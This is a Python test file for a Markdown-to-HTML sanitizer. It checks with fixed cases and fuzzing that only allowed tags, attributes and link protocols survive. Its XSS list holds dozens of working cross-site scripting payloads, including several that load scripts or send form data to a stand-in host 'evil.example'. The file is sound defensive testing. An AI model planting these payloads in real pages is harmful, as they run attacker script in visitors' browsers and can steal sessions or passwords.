"""Whatever goes in, only the named tags, attributes and protocols come out, as a browser would parse them."""

import re
from unittest.mock import patch

import pytest
from bleach._vendor import html5lib
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kernel.markup import ATTRIBUTES, PROTOCOLS, TAGS, to_html, to_rich_text

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<a href='https://ok.example' onclick='alert(1)' style='position:fixed'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](https://ok.example \"a' onmouseover='alert(1)\")",
    '[x](https://ok.example.org/"onmouseover="alert(1))',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://ok.example.org/"><script>alert(1)</script>>',
    'https://ok.example.org/"onmouseover=alert(1)',
    "www.ok.example.org/<script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
    "    <script>alert(1)</script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p><script>alert(1)</script>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<a href=x id=main name=body class=button>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
]
PIECES = ["<", ">", '"', "'", "&", "(", ")", "[", "]", "!", "`", "*", "=", "\n", "\n\n", "\t", "\x00", "- ", "> ", "# "]
PIECES += ["### ", "1. ", "on", "<p ", "<a href=", "javascript:", "&#106;"]
PIECES += ["https://a.example.org", "www.b.example.org", "x@c.example.org"]
SNIPPETS = st.sampled_from([*XSS, *PIECES])
FUZZ = st.lists(SNIPPETS | st.text(max_size=6), max_size=12).map("".join)
XHTML = "{http://www.w3.org/1999/xhtml}"


def elements(html: str):
    """Every element that a browser would make of it."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=True)
    return [element for element in tree.iter() if element is not tree]


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert isinstance(element.tag, str), f"a comment in {html!r}"
        tag = element.tag.removeprefix(XHTML)
        assert tag in TAGS
        assert set(element.attrib) <= set(ATTRIBUTES.get(tag, [])), html
        if "href" in element.attrib:
            # Browsers drop control characters and spaces before they look at the protocol.
            address = re.sub(r"[\x00-\x20]", "", element.attrib["href"])
            if protocol := re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", address):
                assert protocol[1].lower() in PROTOCOLS, html
            assert {"nofollow", "ugc"} <= set(element.attrib["rel"].split()), html


@pytest.mark.parametrize("attack", XSS)
def test_known_attacks_come_out_harmless(attack):
    assert_harmless(to_html(attack))
    assert_harmless(to_html(f"words {attack} words\n\n- {attack}\n\n> {attack}"))


@settings(max_examples=300, deadline=None)
@given(FUZZ)
@example("<a href=https://a.example.org>[x](javascript:alert(1))</a>")
def test_anything_comes_out_harmless(text):
    assert_harmless(to_html(text))


@settings(max_examples=100, deadline=None)
@given(st.text("abc é<>&\"'", max_size=30))
def test_plain_words_are_all_kept(text):
    tree = html5lib.parseFragment(to_html(f"Words {text}"))
    assert "".join("".join(tree.itertext()).split()) == "".join(f"Words {text}".split())


def test_raw_html_is_shown_as_it_was_typed():
    assert to_html("<b>2 < 3</b>") == "<p>&lt;b&gt;2 &lt; 3&lt;/b&gt;</p>\n"


def test_what_people_write_keeps_its_shape():
    html = to_html("### Title\n\nOne\ntwo **strong** *stressed*\n\n- a\n- b\n\n> said\n\n3. third")
    assert "<h3>Title</h3>" in html
    assert re.search(r"One<br ?/?>\n?two <strong>strong</strong> <em>stressed</em>", html)
    assert "<li>a</li>" in html
    assert "<blockquote>" in html
    assert '<ol start="3">' in html


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("see https://a.example.org/b?c=1&d=2", "https://a.example.org/b?c=1&d=2"),
        ("see www.a.example.org", "http://www.a.example.org"),
        ("[here](https://a.example.org)", "https://a.example.org"),
        ("<mailto:me@a.example.org>", "mailto:me@a.example.org"),
        ("[ring](tel:+33123456789)", "tel:+33123456789"),
    ],
)
def test_every_link_is_made_and_marked_as_not_ours(text, href):
    (link,) = [e for e in elements(to_html(text)) if e.tag == f"{XHTML}a"]
    assert link.attrib == {"href": href, "rel": "nofollow noopener ugc"}


def test_rich_text_joins_soft_breaks_and_keeps_hard_ones():
    assert to_rich_text("one\ntwo  \nthree\n\nfour") == "<p>one two<br />three</p><p>four</p>"


def test_rich_text_keeps_no_raw_html():
    assert "<script" not in to_rich_text("a <script>b</script>\n\n<script>c</script>")
    assert to_rich_text("### A *b*\n\n- c\n- d\n") == "<h3>A <em>b</em></h3><ul><li>c</li><li>d</li></ul>"


@given(st.text(alphabet=st.sampled_from("aéßЖ中9٣ ,;?’'“”«»…–—.!:)\n-_*"), max_size=30) | st.text(max_size=12))
@settings(max_examples=300)
@example("What would help you most? Say more: it’s your time.")
@example("And then. www")
@example("a.b")
def test_the_short_way_says_what_the_long_way_says(text):
    short = to_html(text)
    with patch("kernel.markup._PLAIN", re.compile(r"(?!)")):
        assert short == to_html(text)
